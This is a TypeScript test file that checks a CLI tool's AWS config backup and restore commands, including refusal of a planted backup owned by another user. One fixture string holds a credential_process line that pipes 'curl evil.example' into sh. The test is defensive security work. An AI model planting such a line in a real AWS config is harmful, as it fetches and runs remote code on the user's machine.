/**
 * Backups end to end, as the security review attacked them: a file another
 * user planted in the backup folder, newer by mtime, must not be listed or
 * restored; nor a backup made for another config. And a backup robo cannot
 * record makes the run fail with nothing changed.
 */
import {
  chmodSync,
  chownSync,
  existsSync,
  mkdirSync,
  readFileSync,
  readdirSync,
  utimesSync,
  writeFileSync,
} from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { treeState } from './helpers/files.js';
import { projectRoot, runRobo, runRoboBinary } from './helpers/robo.js';
import { sandboxes } from './helpers/sandbox.js';

const sandbox = sandboxes();
const USER_FILE = '[default]\nregion = eu-north-1\n';
const EVIL = '[default]\ncredential_process = /bin/sh -c "curl evil.example | sh"\n';
const snapshot = (team: string) =>
  readFileSync(path.join(projectRoot, 'test', '__snapshots__', 'teams', `${team}.config`), 'utf8');

async function listing(env: NodeJS.ProcessEnv): Promise<Array<{ path: string; team: string | null }>> {
  const result = await runRobo(['aws.backups', '--json'], { env });
  expect(result.code, result.stderr).toBe(0);
  return (JSON.parse(result.stdout) as { backups: Array<{ path: string; team: string | null }> }).backups;
}

describe('aws.backups and aws.restore trust only the backups robo made of this config', () => {
  it('a planted file of another user, newer by mtime, is not listed, not restored, and refused when named', async () => {
    const box = sandbox();
    mkdirSync(path.dirname(box.awsConfig), { recursive: true });
    writeFileSync(box.awsConfig, USER_FILE);
    expect((await runRobo(['aws.config', '--team', 'platform'], { env: box.env })).code).toBe(0);
    expect((await runRobo(['aws.config', '--team', 'foundation'], { env: box.env })).code).toBe(0);
    const ours = await listing(box.env);
    expect(ours.map((backup) => backup.team)).toEqual(['platform', null]);

    const planted = path.join(box.backupDir, 'awsconfig-ffffffffffffffffffffffffffffffff');
    writeFileSync(planted, EVIL, { mode: 0o644 });
    chownSync(planted, 65534, 65534);
    const ahead = new Date(Date.now() + 3_600_000);
    utimesSync(planted, ahead, ahead);
    expect(await listing(box.env)).toEqual(ours);
    const table = await runRobo(['aws.backups'], { env: box.env });
    expect(table.stdout).not.toContain(planted);

    const before = treeState(box.root);
    const named = await runRobo(['aws.restore', planted], { env: box.env });
    expect(named.code).toBe(2);
    expect(named.stderr).toContain(`refusing to restore ${planted}: it belongs to uid 65534, not to you`);
    expect(named.stderr).toContain('nothing was restored');
    expect(treeState(box.root)).toEqual(before);

    const restore = await runRobo(['aws.restore'], { env: box.env });
    expect(restore.code, restore.stderr).toBe(0);
    expect(restore.stdout).toContain(`Restored ${ours[0]!.path}`);
    expect(readFileSync(box.awsConfig, 'utf8')).toBe(snapshot('platform') + USER_FILE);
  });

  it('a backup made for another config (AWS_CONFIG_FILE) is listed only for that config', async () => {
    const box = sandbox();
    const other = path.join(box.root, 'try', 'config');
    mkdirSync(path.dirname(other), { recursive: true });
    writeFileSync(other, USER_FILE);
    const tryEnv = { ...box.env, AWS_CONFIG_FILE: other };
    expect((await runRobo(['aws.config', '--team', 'platform'], { env: tryEnv })).code).toBe(0);
    const [made] = readdirSync(box.backupDir).map((name) => path.join(box.backupDir, name));
    expect(await listing(tryEnv)).toMatchObject([{ path: made }]);

    mkdirSync(path.dirname(box.awsConfig), { recursive: true });
    writeFileSync(box.awsConfig, USER_FILE);
    expect(await listing(box.env)).toEqual([]);
    const none = await runRobo(['aws.restore'], { env: box.env });
    expect(none.code).toBe(2);
    expect(none.stderr).toContain(`no robo backups of ${box.awsConfig}`);
    const named = await runRobo(['aws.restore', made!], { env: box.env });
    expect(named.code).toBe(2);
    expect(named.stderr).toContain(
      `refusing to restore ${made}: it is a backup of ${other}, not of ${box.awsConfig}; nothing was restored`,
    );
    expect(readFileSync(box.awsConfig, 'utf8')).toBe(USER_FILE);
  });

  it('runs on two configs at once lose no record', async () => {
    const box = sandbox();
    const configs = [box.awsConfig, path.join(box.root, 'try', 'config')];
    for (const config of configs) {
      mkdirSync(path.dirname(config), { recursive: true });
      writeFileSync(config, USER_FILE);
    }
    const envs = configs.map((config) => ({ ...box.env, AWS_CONFIG_FILE: config }));
    const results = await Promise.all(
      envs.flatMap((env) =>
        ['platform', 'foundation', 'fpa'].map((team) =>
          runRoboBinary(['aws.config', '--team', team], { env, timeoutMs: 90_000 }),
        ),
      ),
    );
    for (const result of results) expect(result.code, result.stderr).toBe(0);
    const listed = [...(await listing(envs[0]!)), ...(await listing(envs[1]!))].map((backup) => backup.path).sort();
    expect(listed).toEqual(
      readdirSync(box.backupDir)
        .map((name) => path.join(box.backupDir, name))
        .sort(),
    );
    expect(listed.length).toBeGreaterThanOrEqual(2);
  }, 120_000);

  it('a backup that cannot be recorded fails the run (exit 5): no backup, the config untouched', async () => {
    const box = sandbox();
    mkdirSync(path.dirname(box.awsConfig), { recursive: true });
    writeFileSync(box.awsConfig, USER_FILE);
    const blocked = path.join(box.root, 'state-is-a-file');
    writeFileSync(blocked, '');
    chmodSync(blocked, 0o600);
    const result = await runRobo(['aws.config', '--team', 'platform'], {
      env: { ...box.env, XDG_STATE_HOME: blocked },
    });
    expect(result.code).toBe(5);
    expect(result.stderr).toContain(`cannot record the backup of the aws config in ${blocked}/robo/backups.jsonl`);
    expect(result.stderr).toContain('nothing was changed');
    expect(readFileSync(box.awsConfig, 'utf8')).toBe(USER_FILE);
    expect(existsSync(box.backupDir) ? readdirSync(box.backupDir) : []).toEqual([]);
  });
});
